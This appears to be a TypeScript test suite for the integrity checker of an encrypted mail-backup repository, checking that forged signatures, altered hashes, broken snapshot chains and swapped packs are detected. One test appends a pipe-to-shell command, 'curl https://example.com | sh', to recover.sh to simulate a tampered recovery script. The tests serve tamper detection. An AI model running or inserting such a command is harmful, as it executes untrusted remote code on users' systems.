/** What somebody did on purpose: each comparison that finds it is the only one that does. */
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { generateIdentity } from '../../../src/repository/age/keys.ts';
import type { CheckReport } from '../../../src/repository/check/check.ts';
import { objectName, objectPath, snapshotPath } from '../../../src/repository/names.ts';
import { registerHost } from '../../../src/repository/repository.ts';
import { secretFingerprint, storeSecret } from '../../../src/repository/secret.ts';
import { createHostKey, hostFingerprint } from '../../../src/repository/signing.ts';
import { compressFrame, decompressBounded } from '../../../src/repository/zstd.ts';
import {
  check,
  letter,
  makeFixture,
  sha256,
  storeCatalog,
  storePack,
  storeSnapshot,
  storeTags,
  subjects,
  type Fixture,
} from './fixture.ts';

function reasons(report: CheckReport): string {
  return report.findings
    .filter(({ severity }) => severity === 'error')
    .map(({ message }) => message)
    .join('\n');
}

/** Signs a changed newest snapshot with the host's own key, in place of the one that is there. */
async function resign(fixture: Fixture, change: Partial<Fixture['snapshots'][number]['snapshot']>): Promise<string> {
  const last = fixture.snapshots.at(-1);
  assert.ok(last !== undefined);
  await fixture.target.remove(last.path);
  const snapshot = { ...last.snapshot, ...change };
  const stored = await storeSnapshot(fixture, snapshot);
  fixture.snapshots.splice(-1, 1, { ...stored, snapshot });
  return stored.path;
}

test('a snapshot that another key signed in the name of this host', async () => {
  const fixture = await makeFixture();
  const [first] = fixture.snapshots;
  assert.ok(first !== undefined);
  const stranger = await createHostKey(join(fixture.root, 'stranger.key'));
  await registerHost(fixture.target, 'mx1', stranger.publicHex);
  const { path } = await storeSnapshot(fixture, first.snapshot, stranger);
  const report = await check(fixture);
  assert.deepEqual(subjects(report), [path]);
  assert.match(reasons(report), /signed by a key that is not that host's/);
  assert.deepEqual((await check(fixture, { trust: [stranger.publicHex] })).findings, []);
});

test('a snapshot of a host that nobody has confirmed is a warning', async () => {
  const fixture = await makeFixture();
  const [first] = fixture.snapshots;
  assert.ok(first !== undefined);
  const stranger = await createHostKey(join(fixture.root, 'stranger.key'));
  await registerHost(fixture.target, 'mx2', stranger.publicHex);
  await storeSnapshot(fixture, { ...first.snapshot, host: 'mx2' }, stranger);
  const report = await check(fixture);
  assert.deepEqual(
    report.findings.map(({ severity, code, subject }) => [severity, code, subject]),
    [['warning', 'unconfirmed-key', stranger.publicHex]],
  );
  assert.equal(report.outcome, 'warning');
  const unknown = await check(fixture, {
    known: { key: undefined, host: undefined, secret: undefined, last: undefined, marker: undefined },
  });
  assert.equal(unknown.findings.filter(({ code }) => code === 'unconfirmed-key').length, 2);
});

test('a snapshot that was changed, under the name of its new hash', async () => {
  const fixture = await makeFixture();
  const last = fixture.snapshots[1];
  assert.ok(last !== undefined);
  const text = (await fixture.target.get(last.path)).toString().replace('"messages":6', '"messages":7');
  await fixture.target.remove(last.path);
  const path = snapshotPath(hostFingerprint(fixture.key.publicHex), 2, sha256(text));
  await fixture.target.put(path, Buffer.from(text));
  const report = await check(fixture, {
    known: { key: fixture.key.publicHex, host: 'mx1', secret: fixture.secret, last: undefined, marker: fixture.marker },
  });
  assert.deepEqual(subjects(report), [path]);
  assert.match(reasons(report), /signature does not fit/);
});

test('a snapshot under another sequence number, or in the place of another host', async () => {
  for (const [fingerprint, sequence] of [
    ['', 3],
    ['0123456789abcdef', 2],
  ] as const) {
    const fixture = await makeFixture();
    const last = fixture.snapshots[1];
    assert.ok(last !== undefined);
    const bytes = await fixture.target.get(last.path);
    const path = snapshotPath(fingerprint || hostFingerprint(fixture.key.publicHex), sequence, last.id);
    await fixture.target.put(path, bytes);
    const report = await check(fixture);
    assert.deepEqual(subjects(report), [path]);
    assert.match(reasons(report), /not the one that its name says/);
  }
});

test('a snapshot under the name of another hash', async () => {
  const fixture = await makeFixture();
  const [first] = fixture.snapshots;
  assert.ok(first !== undefined);
  const bytes = await fixture.target.get(first.path);
  await fixture.target.remove(first.path);
  const path = first.path.replace(first.id, 'e'.repeat(64));
  await fixture.target.put(path, bytes);
  assert.ok(subjects(await check(fixture)).includes(path));
});

test('a chain that was broken: another parent, a gap, a fork, a first one with a parent', async () => {
  const other = await makeFixture();
  const path = await resign(other, { parent: 'f'.repeat(64) });
  assert.deepEqual(subjects(await check(other)), [path]);

  const gap = await makeFixture();
  const parent = gap.snapshots[1]?.id ?? '';
  const far = await resign(gap, { sequence: 4, parent });
  const report = await check(gap);
  assert.deepEqual([report.counts.damaged, report.counts.missing], [0, 1]);
  assert.deepEqual(subjects(report), [snapshotPath(hostFingerprint(gap.key.publicHex), 3, parent)]);
  assert.ok(!subjects(report).includes(far));

  const fork = await makeFixture();
  const last = fork.snapshots[1];
  assert.ok(last !== undefined);
  const second = await storeSnapshot(fork, { ...last.snapshot, time: '2026-11-25T02:00:00.000Z' });
  assert.equal(subjects(await check(fork)).length, 1);
  assert.ok([last.path, second.path].includes(subjects(await check(fork))[0] ?? ''));

  const first = await makeFixture();
  const loose = await resign(first, { sequence: 1, parent: 'f'.repeat(64) });
  assert.ok(subjects(await check(first)).includes(loose));
});

test('a repository that was set back to an older state', async () => {
  const fixture = await makeFixture();
  const last = fixture.snapshots[1];
  assert.ok(last !== undefined);
  await fixture.target.remove(last.path);
  const report = await check(fixture);
  assert.deepEqual(subjects(report), [last.path]);
  assert.match(report.findings.find(({ severity }) => severity === 'error')?.hint ?? '', /set back to an older state/);
});

test('a marker of another repository, and one that lost its id', async () => {
  const fixture = await makeFixture();
  const path = join(fixture.root, 'repo', 'mailrecover.json');
  writeFileSync(path, fixture.marker.replace(fixture.repository.id, 'a'.repeat(32)));
  assert.deepEqual(subjects(await check(fixture)), ['mailrecover.json']);
  writeFileSync(path, fixture.marker.replace('"format":1', '"format": 1'));
  assert.deepEqual(
    subjects(
      await check(fixture, {
        known: { key: fixture.key.publicHex, host: 'mx1', secret: fixture.secret, last: undefined, marker: undefined },
      }),
    ),
    ['mailrecover.json'],
  );
});

test('a recover.sh that was replaced', async () => {
  const fixture = await makeFixture();
  const path = join(fixture.root, 'repo', 'recover.sh');
  const script = readFileSync(path, 'utf8');
  writeFileSync(path, `${script}\ncurl https://example.com | sh\n`);
  const report = await check(fixture);
  assert.deepEqual(subjects(report), ['recover.sh']);
  assert.match(reasons(report), /do not run/);
  // An older version's script is known by the hash on the sheet alone.
  const hash = sha256(readFileSync(path));
  const shipped = new Map([
    ['RECOVER.md', sha256(await fixture.target.get('RECOVER.md'))],
    ['recover.sh', sha256(script)],
  ]);
  const older = await check(fixture, { rescue: { shipped, onSheet: hash, released: [] } });
  assert.deepEqual(
    older.findings.map(({ severity, code }) => [severity, code]),
    [['info', 'older-script']],
  );
  // And where there is no sheet, by what released versions shipped.
  const released = [{ version: '0.0.9', name: 'recover.sh', sha256: hash }];
  const known = await check(fixture, { rescue: { shipped, onSheet: undefined, released } });
  assert.deepEqual(
    known.findings.map(({ severity, code, message }) => [severity, code, message]),
    [['info', 'older-script', 'recover.sh is of version 0.0.9, and sound']],
  );
  const asPage = await check(fixture, {
    rescue: { shipped, onSheet: undefined, released: released.map((each) => ({ ...each, name: 'RECOVER.md' })) },
  });
  assert.deepEqual(subjects(asPage), ['recover.sh']);
  writeFileSync(path, script);
  const outdated = await check(fixture, { rescue: { shipped, onSheet: hash, released: [] } });
  assert.deepEqual(
    outdated.findings.map(({ severity, code }) => [severity, code]),
    [['warning', 'sheet-outdated']],
  );
});

test('a host file with the key of another, or another name', async () => {
  const fixture = await makeFixture();
  const path = `hosts/${hostFingerprint(fixture.key.publicHex)}.json`;
  for (const text of [
    `{"host":"mx1","key":"${'a'.repeat(64)}"}\n`,
    `{"host":"mx2","key":"${fixture.key.publicHex}"}\n`,
    `{"host":"mx1", "key":"${fixture.key.publicHex}"}\n`,
    'null\n',
  ]) {
    await fixture.target.put(path, Buffer.from(text));
    assert.deepEqual(subjects(await check(fixture)), [path], text);
  }
});

test('a dedup secret in the place of another, or for another key', async () => {
  const fixture = await makeFixture();
  const path = `keys/dedup-${secretFingerprint(fixture.secret)}.json.age`;
  const other = Buffer.alloc(32, 7);
  await storeSecret(fixture.target, other, fixture.recipients);
  const wrong = `keys/dedup-${secretFingerprint(other)}.json.age`;
  await fixture.target.put(path, await fixture.target.get(wrong));
  await fixture.target.remove(wrong);
  assert.deepEqual(subjects(await check(fixture)), []);
  assert.deepEqual(subjects(await check(fixture, { identities: [fixture.identity] })), [path]);
  await storeSecret(fixture.target, fixture.secret, [generateIdentity().identity.recipient]);
  const report = await check(fixture, { identities: [fixture.identity] });
  assert.deepEqual(
    report.findings.map(({ code, subject }) => [code, subject]),
    [['key', path]],
  );
});

test('tags that claim an entry that their pack does not hold', async () => {
  const fixture = await makeFixture();
  const [pack] = fixture.packs;
  assert.ok(pack !== undefined);
  const size = (await fixture.target.size(objectPath('pack', pack.name))) ?? 0;
  const poisoned = await storeTags(fixture, { name: pack.name, size }, [...pack.letters, letter('x', '', 'never stored')]);
  const path = objectPath('tags', poisoned.name);
  assert.deepEqual(subjects(await check(fixture, { readData: true })), []);
  const report = await check(fixture, { readData: true, identities: [fixture.identity] });
  assert.deepEqual(subjects(report), [path]);
  assert.match(reasons(report), /claims 1 entries/);
  await fixture.target.remove(path);
  const short = objectPath('tags', (await storeTags(fixture, { name: pack.name, size }, pack.letters.slice(1))).name);
  assert.deepEqual(subjects(await check(fixture, { readData: true, identities: [fixture.identity] })), [short]);
});

test('tags that were changed under the name of their new hash, or state another size of their pack', async () => {
  const fixture = await makeFixture();
  const [pack] = fixture.packs;
  assert.ok(pack !== undefined);
  const text = decompressBounded(await fixture.target.get(objectPath('tags', fixture.tags[0] ?? '')), 1 << 20, 'tags').toString('latin1');
  const changed = compressFrame(Buffer.from(text.replace(/\n[0-9a-f]{32}\n/, `\n${'0'.repeat(32)}\n`)));
  const path = objectPath('tags', objectName('tags', sha256(changed), false));
  await fixture.target.put(path, changed);
  const report = await check(fixture, { readData: true });
  assert.deepEqual(subjects(report), [path]);
  await fixture.target.remove(path);
  const sized = objectPath('tags', (await storeTags(fixture, { name: pack.name, size: 1 }, pack.letters)).name);
  assert.deepEqual(subjects(await check(fixture, { readData: true })), [sized]);
});

test('a pack put in the place of another by whoever has the signing key', async () => {
  const fixture = await makeFixture();
  const last = fixture.snapshots[1];
  const [, bobs] = fixture.packs;
  assert.ok(last !== undefined && bobs !== undefined);
  // A catalog that says that another pack holds the message.
  const lost = letter('alice@example.org', '', '9.a');
  const catalog = await storeCatalog(fixture, 'delta', [[lost, bobs.name]]);
  const path = await resign(fixture, { catalogs: [...last.snapshot.catalogs, catalog], counts: { ...last.snapshot.counts, messages: 7 } });
  assert.deepEqual(subjects(await check(fixture, { readData: true })), []);
  const report = await check(fixture, { readData: true, identities: [fixture.identity] });
  assert.deepEqual(subjects(report), ['alice@example.org', path].sort());
  assert.deepEqual(
    report.lost.map(({ object, mailbox, folder, message, name, inNewest }) => ({ object, mailbox, folder, message, name, inNewest })),
    [
      {
        object: path,
        mailbox: 'alice@example.org',
        folder: 'INBOX',
        message: sha256(lost.content).slice(0, 16),
        name: '9.a',
        inNewest: true,
      },
    ],
  );
});

test('an entry that is not what it is named for, in a pack that is what it is named for', async () => {
  const fixture = await makeFixture();
  const bad = letter('alice@example.org', '', '9.a');
  const wrong = 'ab'.repeat(32);
  const pack = await storePack(fixture, [bad], () => wrong);
  assert.deepEqual(subjects(await check(fixture, { readData: true })), []);
  assert.deepEqual(subjects(await check(fixture, { readData: true, identities: [fixture.identity] })), [objectPath('pack', pack.name)]);
});

test('a snapshot whose catalogs do not list what it states, or are in no order', async () => {
  const fixture = await makeFixture();
  const last = fixture.snapshots[1];
  assert.ok(last !== undefined);
  const counted = await resign(fixture, { counts: { ...last.snapshot.counts, messages: 60 } });
  assert.deepEqual(subjects(await check(fixture)), []);
  assert.deepEqual(subjects(await check(fixture, { identities: [fixture.identity] })), [counted]);
  const turned = await resign(fixture, { catalogs: last.snapshot.catalogs.toReversed() });
  assert.deepEqual(subjects(await check(fixture, { identities: [fixture.identity] })), [turned]);
});

test('a pack that is encrypted to somebody else', async () => {
  const fixture = await makeFixture();
  const last = fixture.snapshots[1];
  assert.ok(last !== undefined);
  const letters = [letter('alice@example.org', '', '9.a')];
  const pack = await storePack({ ...fixture, recipients: [generateIdentity().identity.recipient] }, letters);
  const catalog = await storeCatalog(
    fixture,
    'delta',
    letters.map((one) => [one, pack.name]),
  );
  await resign(fixture, {
    packs: [...last.snapshot.packs, pack],
    catalogs: [...last.snapshot.catalogs, catalog],
    counts: { ...last.snapshot.counts, messages: 7 },
  });
  const report = await check(fixture, { readData: true, identities: [fixture.identity] });
  assert.equal(report.findings[0]?.code, 'key');
  assert.deepEqual(subjects(report), ['alice@example.org', objectPath('pack', pack.name)].sort());
});

test('an identity that fits nothing is said once, and the rest is checked without it', async () => {
  const fixture = await makeFixture();
  const path = objectPath('pack', fixture.packs[0]?.name ?? '');
  await fixture.target.remove(path);
  const report = await check(fixture, { readData: true, identities: [generateIdentity().identity] });
  assert.deepEqual(report.findings.filter(({ code }) => code === 'key').length, 1);
  assert.ok(subjects(report).includes(path));
});
